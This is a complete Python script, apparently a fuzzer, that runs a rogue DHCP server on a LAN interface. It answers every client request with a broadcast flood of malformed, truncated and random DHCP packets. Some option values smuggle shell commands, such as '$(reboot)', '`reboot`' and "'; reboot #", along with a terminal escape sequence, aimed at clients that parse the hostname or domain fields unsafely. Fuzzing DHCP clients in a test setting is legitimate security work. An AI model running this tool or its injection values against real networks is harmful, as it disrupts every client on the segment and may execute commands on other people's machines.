"""A DHCP server of a LAN that answers every question with garbage: `python garbage_dhcp.py INTERFACE ADDRESS`.

Formats are those of RFC 2131 and 2132, and what is wrong with them. It prints how often it answered.
"""

import os
import random
import socket
import struct
import sys

COOKIE = b"\x63\x82\x53\x63"
INTERFACE, ADDRESS = sys.argv[1], socket.inet_aton(sys.argv[2])
#: Options in which nothing is wrong, as far as they are there.
SOUND = {1: b"\xff\xff\xff\0", 3: ADDRESS, 6: ADDRESS, 51: struct.pack(">I", 3600), 54: ADDRESS}
#: Of every answer, so many with a transaction that nobody asked for, and so many that are nothing but noise.
FLOOD, NOISE = 200, 20


def options(kind: bytes, **changed: bytes) -> bytes:
    said = {53: kind, **SOUND, **{int(number[1:]): value for number, value in changed.items()}}
    return b"".join(bytes([number, len(value) & 0xFF]) + value for number, value in said.items()) + b"\xff"


def spoilt(kind: bytes) -> list[bytes]:
    """What follows the cookie."""
    whole = options(kind)
    return [
        b"",
        b"\xff",
        bytes(300),
        whole[:-1] + b"\x0c\xff",
        whole[:-1] + b"\x0f",
        b"\x35\x00" + whole,
        b"\x35\xff" + whole,
        options(b""),
        options(b"\0"),
        options(b"\xff"),
        options(kind * 200),
        options(kind, _1=b"\xff"),
        options(kind, _1=b"\xff\0\xff\0"),
        options(kind, _1=bytes(4)),
        options(kind, _3=b"\1\2\3"),
        options(kind, _3=bytes(255)),
        options(kind, _6=b"\xff" * 252),
        options(kind, _51=b""),
        options(kind, _51=b"\xff" * 8),
        options(kind, _54=b"\1"),
        options(kind, _54=b"\xff" * 4),
        options(kind, _15=b"x\nip=10.0.2.15\nserverid=10.0.2.2\x1b]0;owned\x07$(reboot)`reboot`"),
        options(kind, _12=b"'; reboot #" + bytes(range(32))),
        options(kind, _26=b"\0\1"),
        options(kind, _52=b"\3") + os.urandom(200),
        options(kind, _119=b"\xc0\0" * 100),
        os.urandom(400),
    ]


def answers(question: bytes, chance: random.Random) -> list[bytes]:
    kind = b"\2" if b"\x35\x01\x01" in question else b"\5"
    given = ADDRESS[:3] + bytes([chance.randrange(100, 250)])

    def message(rest: bytes, xid: bytes = question[4:8], yours: bytes = given) -> bytes:
        head = b"\2\1\6\0" + xid + question[8:12] + bytes(4) + yours + ADDRESS + bytes(4) + question[28:44]
        return head + bytes(192) + COOKIE + rest

    whole = message(options(kind))
    found = [message(rest) for rest in spoilt(kind)]
    found += [whole[:length] for length in (0, 1, 4, 44, 235, 236, 239, 240, 241)]
    found += [message(options(kind), yours=each) for each in (bytes(4), b"\xff" * 4, b"\x7f\0\0\1", b"\xe0\0\0\1")]
    found += [message(options(kind), xid=os.urandom(4)) for _ in range(FLOOD)]
    found += [os.urandom(chance.randrange(1, 1400)) for _ in range(NOISE)]
    chance.shuffle(found)
    return found


def main() -> None:
    served = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    served.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    served.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    served.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, INTERFACE.encode() + b"\0")
    served.bind(("", 67))
    chance, count = random.Random(7), 0
    while True:
        question, _ = served.recvfrom(2048)
        for answer in answers(question.ljust(240, b"\0"), chance):
            try:
                served.sendto(answer, ("255.255.255.255", 68))
                count += 1
            except OSError:
                continue
        sys.stdout.write(f"answered {count} times\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main()
